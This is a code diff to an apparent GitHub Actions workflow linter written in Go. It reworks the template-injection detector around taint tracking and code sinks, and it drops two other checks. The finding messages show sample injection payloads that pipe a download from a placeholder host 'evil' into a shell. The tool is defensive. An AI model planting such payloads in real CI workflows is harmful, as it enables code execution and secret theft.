@@ -3,239 +3,166 @@ package checks
 import (
 	"context"
 	"fmt"
-	"regexp"
 	"strings"
 
+	"github.com/hardener/hardener/internal/knowledge"
 	"github.com/hardener/hardener/internal/repo"
 	"github.com/hardener/hardener/internal/workflow"
 )
-
-// attackerFields end context paths under github.event that anyone who can
-// open an issue, comment or fork can set to arbitrary text.
-var attackerFields = []string{
-	".title", ".body", ".message", ".head_ref", ".head_branch", ".label", ".page_name",
-	".author.name", ".author.email", ".committer.name", ".committer.email",
-	".head.ref", ".head.label", ".head.repo.default_branch", ".head.repo.description",
-	".head.repo.homepage", ".head.repo.name", ".head.repo.full_name", ".description",
-}
-
-// safeEvent are github.event fields that are numbers, SHAs, URLs built by
-// GitHub or otherwise not free text.
-var safeEventSuffixes = []string{
-	".number", ".id", ".sha", ".head_sha", ".base_sha", ".node_id", ".html_url", ".url",
-	".state", ".draft", ".merged", ".action", ".created_at", ".updated_at", ".private",
-	".fork", ".size", ".before", ".after", ".forced", ".deleted", ".created",
-	".user.login", ".sender.login", ".login", ".type", ".run_id", ".run_number",
-	".conclusion", ".status", ".event", ".run_attempt", ".default_branch", ".full_name",
-	".owner", ".name", ".author_association",
-}
-
-// classify returns the severity of expanding a context path into a script,
-// and false for contexts that are known to be safe.
-func classify(c string) (Severity, bool) {
-	switch {
-	case c == "github.head_ref":
-		return High, true
-	case strings.HasPrefix(c, "github.event."):
-		for _, s := range attackerFields {
-			if strings.HasSuffix(c, s) {
-				// .name and .full_name of the base repository are safe; of
-				// the head repository (a fork) they are not.
-				return High, true
-			}
-		}
-		for _, s := range safeEventSuffixes {
-			if strings.HasSuffix(c, s) {
-				return 0, false
-			}
-		}
-		if c == "github.event" || strings.HasSuffix(c, ".*") {
-			return Medium, true // a whole object serialised: contains text fields
-		}
-		return Medium, true
-	case strings.HasPrefix(c, "inputs."), strings.HasPrefix(c, "github.event.inputs."),
-		strings.HasPrefix(c, "steps.") && strings.Contains(c, ".outputs."),
-		strings.HasPrefix(c, "needs.") && strings.Contains(c, ".outputs."),
-		strings.HasPrefix(c, "env."):
-		return Info, true
-	}
-	return 0, false
-}
 
 type templateInjection struct{}
 
 func (templateInjection) ID() string { return RuleTemplateInjection }
 
+// sink is a value whose text runs as code once expressions are
+// substituted.
+type sink struct {
+	v *workflow.Value
+	// where names it in messages: "a bash run: script", "the script input of actions/github-script".
+	where string
+	// literal is set for JavaScript and Python sinks, where
+	// `${{ toJSON(x) }}` outside a string literal is a literal value.
+	literal bool
+}
+
 func (templateInjection) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
+	e := taintEngine(snap)
 	var out []Finding
+	at := map[int]int{} // finding index by file offset, per file
 	for _, f := range Load(snap).Files {
-		for _, js := range f.Steps() {
-			s := js.Step
-			if s.Run != nil {
-				out = append(out, injections(f, s.Run, "run: script")...)
-			}
-			if s.Uses != nil {
-				u, ok := ParseUses(s.Uses.Value)
-				if ok && strings.EqualFold(u.Name(), "actions/github-script") {
-					if script := s.WithValue("script"); script != nil {
-						out = append(out, injections(f, script, "github-script script")...)
+		clear(at)
+		visit := func(sc scope, s *workflow.Step) {
+			for _, k := range sinksOf(f, sc.job, s) {
+				for _, fd := range injections(e, f, k, sc) {
+					if i, dup := at[fd.Primary.Offset]; dup {
+						if fd.Severity > out[i].Severity {
+							out[i] = fd
+						}
+						continue
 					}
+					at[fd.Primary.Offset] = len(out)
+					out = append(out, fd)
 				}
+			}
+		}
+		if f.Workflow != nil {
+			for _, j := range f.Workflow.Jobs {
+				for i, s := range j.Steps {
+					visit(scope{f: f, job: j, step: i}, s)
+				}
+			}
+		}
+		if f.Action != nil {
+			for i, s := range f.Action.Steps {
+				visit(scope{f: f, step: i}, s)
 			}
 		}
 	}
 	return out, nil
 }
 
-func injections(f *workflow.File, v *workflow.Value, where string) []Finding {
-	exprs := workflow.Expressions(v.Value)
-	if len(exprs) == 0 {
-		return nil
+// sinksOf lists the values of a step that run as code: `run:`, a custom
+// `shell:` template, and the code inputs of known actions (sinks.yml).
+func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
+	var out []sink
+	if s.Run != nil {
+		sh := shellName(f, j, s)
+		out = append(out, sink{v: s.Run, where: "a " + sh + "run: script", literal: strings.HasPrefix(sh, "python")})
 	}
-	offs := workflow.ExprPositions(f.Source.Src, v)
-	var out []Finding
-	for i, e := range exprs {
-		var worst Severity = -1
-		var which string
-		for _, c := range e.Contexts {
-			if sev, bad := classify(c); bad && sev > worst {
-				worst, which = sev, c
+	if s.Shell != nil && strings.Contains(s.Shell.Value, "${{") {
+		out = append(out, sink{v: s.Shell, where: "a shell: command"})
+	}
+	if s.Uses != nil {
+		if u, ok := ParseUses(s.Uses.Value); ok && !u.Local && !u.Docker {
+			if k := knowledge.SinkFor(u.Name()); k != nil {
+				for i := range s.With {
+					if k.Runs(s.With[i].Key.Value) {
+						out = append(out, sink{v: &s.With[i].Value, literal: k.Language == "javascript" || k.Language == "python",
+							where: fmt.Sprintf("the %s input of %s (%s code)", s.With[i].Key.Value, u.Name(), k.Language)})
+					}
+				}
 			}
 		}
-		if worst < 0 {
-			continue
-		}
-		conf := ConfidenceHigh
-		msg := fmt.Sprintf("%s is expanded into a %s: its text becomes code; pass it through env: and use the variable", which, where)
-		switch worst {
-		case High:
-			msg = fmt.Sprintf("%s is attacker-controlled and expanded into a %s: text like `\"; curl evil | sh #` runs as code; "+
-				"pass it through env: and use the variable", which, where)
-		case Medium:
-			conf = ConfidenceMedium
-		default:
-			conf = ConfidenceLow
-			msg = fmt.Sprintf("%s is expanded into a %s; if it can carry untrusted text it becomes code: pass it through env: instead", which, where)
-		}
-		out = append(out, Finding{Rule: RuleTemplateInjection, Severity: worst, Confidence: conf, Message: msg,
-			Primary: locAt(f, offs[i], offs[i]+len(e.Raw)), Subject: which})
 	}
 	return out
 }
 
-type secretsInherit struct{}
-
-func (secretsInherit) ID() string { return RuleSecretsInherit }
-
-func (secretsInherit) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
-	var out []Finding
-	for _, f := range Load(snap).Files {
-		if f.Workflow == nil {
-			continue
-		}
-		for _, j := range f.Workflow.Jobs {
-			if j.SecretsInherit == nil || j.Uses == nil {
-				continue
-			}
-			sev, msg := Medium, fmt.Sprintf("job %q passes every secret of this repository to %s; pass only the secrets it needs", j.ID, j.Uses.Value)
-			if strings.HasPrefix(j.Uses.Value, "./") {
-				sev = Low
-			}
-			out = append(out, Finding{Rule: RuleSecretsInherit, Severity: sev, Confidence: ConfidenceHigh, Message: msg,
-				Primary: loc(f, j.SecretsInherit), Subject: j.Uses.Value})
-		}
+// shellName names the shell that runs a step's script, with a trailing
+// space, or "" when it is the runner's default.
+func shellName(f *workflow.File, j *workflow.Job, s *workflow.Step) string {
+	v := s.Shell
+	if v == nil && j != nil {
+		v = j.DefaultShell
 	}
-	return out, nil
+	if v == nil && f.Workflow != nil {
+		v = f.Workflow.DefaultShell
+	}
+	if v == nil || v.Value == "" {
+		return ""
+	}
+	name, _, _ := strings.Cut(v.Value, " ")
+	return name + " "
 }
 
-type artipacked struct{}
-
-func (artipacked) ID() string { return RuleArtipacked }
-
-func (artipacked) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
+func injections(e *engine, f *workflow.File, k sink, sc scope) []Finding {
+	exprs := workflow.Expressions(k.v.Value)
+	if len(exprs) == 0 {
+		return nil
+	}
+	offs := workflow.ExprPositions(f.Source.Src, k.v)
 	var out []Finding
-	for _, f := range Load(snap).Files {
-		if f.Workflow == nil {
+	for i, x := range exprs {
+		if k.literal && jsonLiteral(k.v.Value, x) {
 			continue
 		}
-		for _, j := range f.Workflow.Jobs {
-			var uploads *workflow.Step
-			pushes := false
-			for _, s := range j.Steps {
-				if s.Uses != nil {
-					if u, ok := ParseUses(s.Uses.Value); ok && (strings.EqualFold(u.Name(), "actions/upload-artifact") ||
-						strings.EqualFold(u.Name(), "actions/upload-pages-artifact")) && uploads == nil {
-						uploads = s
-					}
-				}
-				if s.Run != nil && (strings.Contains(s.Run.Value, "git push") || strings.Contains(s.Run.Value, "git commit")) {
-					pushes = true
-				}
-			}
-			if uploads == nil || pushes {
-				continue
-			}
-			for _, s := range j.Steps {
-				if s.Uses == nil {
-					continue
-				}
-				u, ok := ParseUses(s.Uses.Value)
-				if !ok || !strings.EqualFold(u.Name(), "actions/checkout") || checkoutV6(u.Ref, s.Uses, f) {
-					continue
-				}
-				if pc := s.WithValue("persist-credentials"); pc != nil && strings.EqualFold(pc.Value, "false") {
-					continue
-				}
-				out = append(out, Finding{Rule: RuleArtipacked, Severity: Medium, Confidence: ConfidenceMedium,
-					Message: fmt.Sprintf("job %q keeps the checkout's token in .git/config and uploads an artifact: set "+
-						"persist-credentials: false on the checkout", j.ID),
-					Primary: loc(f, s.Uses), Related: []Location{relatedStep(f, uploads, "uploads the workspace")}})
+		var worst taint
+		var which string
+		for _, fl := range x.Flows() {
+			if t := e.ref(fl, sc); t.set && (!worst.set || t.sev > worst.sev) {
+				worst, which = t, fl.Raw
 			}
 		}
+		if !worst.set {
+			continue
+		}
+		out = append(out, Finding{Rule: RuleTemplateInjection, Severity: worst.sev, Confidence: worst.conf,
+			Message: injectionMessage(which, worst, k.where), Primary: locAt(f, offs[i], offs[i]+len(x.Raw)),
+			Related: worst.via, Subject: which})
 	}
-	return out, nil
+	return out
 }
 
-// checkoutV6 reports whether a checkout is v6 or later (which keeps the
-// credentials out of the workspace), from its tag or version comment.
-func checkoutV6(ref string, v *workflow.Value, f *workflow.File) bool {
-	version := ref
-	if IsSHA(ref) {
-		version = versionComment(f, v)
+func injectionMessage(which string, t taint, where string) string {
+	const fix = "pass it through env: and use the variable (\"$VAR\") instead"
+	const code = "text such as `$(curl evil|sh)` or `\"+evil()+\"` runs as code"
+	switch {
+	case t.why != "":
+		return fmt.Sprintf("%s is expanded into %s; %s, and there %s: %s", which, where, t.why, code, fix)
+	case which == t.origin:
+		return fmt.Sprintf("%s is attacker-controlled and expanded into %s: %s; %s", which, where, code, fix)
 	}
-	version = strings.TrimPrefix(version, "v")
-	major, _, _ := strings.Cut(version, ".")
-	n := 0
-	for _, c := range major {
-		if c < '0' || c > '9' {
+	return fmt.Sprintf("%s carries %s, which is attacker-controlled, and is expanded into %s: %s; %s",
+		which, t.origin, where, code, fix)
+}
+
+// jsonLiteral reports whether an expression is `toJSON(…)` standing on its
+// own in JavaScript or Python code: JSON is a literal there. Between
+// quotes it is not: `"${{ toJSON(x) }}"` lets `"+evil()+"` out.
+func jsonLiteral(code string, x workflow.Expr) bool {
+	if !x.Parse().IsCall("tojson") {
+		return false
+	}
+	before := strings.TrimRight(code[:x.Offset], " \t")
+	after := strings.TrimLeft(code[x.Offset+len(x.Raw):], " \t")
+	quote := func(s string, last bool) bool {
+		if s == "" {
 			return false
 		}
-		n = n*10 + int(c-'0')
+		c := s[0]
+		if last {
+			c = s[len(s)-1]
+		}
+		return c == '"' || c == '\'' || c == '`'
 	}
-	return major != "" && n >= 6
+	return !quote(before, true) && !quote(after, false)
 }
-
-// versionComment returns the version named in the comment after a value
-// (`# v4.2.2`, `# tag=v4`), or "".
-func versionComment(f *workflow.File, v *workflow.Value) string {
-	if v.End < 0 {
-		return ""
-	}
-	line, _ := f.Source.Position(v.End)
-	rest := string(f.Source.Src[v.End:f.Source.LineEnd(line)])
-	_, c, ok := strings.Cut(rest, "#")
-	if !ok {
-		return ""
-	}
-	c = strings.TrimSpace(c)
-	c = strings.TrimPrefix(c, "tag=")
-	c = strings.TrimPrefix(c, "tag:")
-	c, _, _ = strings.Cut(c, " ")
-	c = strings.TrimSpace(c)
-	if !versionLike.MatchString(c) {
-		return "" // a human comment, not a version
-	}
-	return c
-}
-
-var versionLike = regexp.MustCompile(`^v?\d+(\.\d+)*([-+][0-9A-Za-z.-]+)?$`)
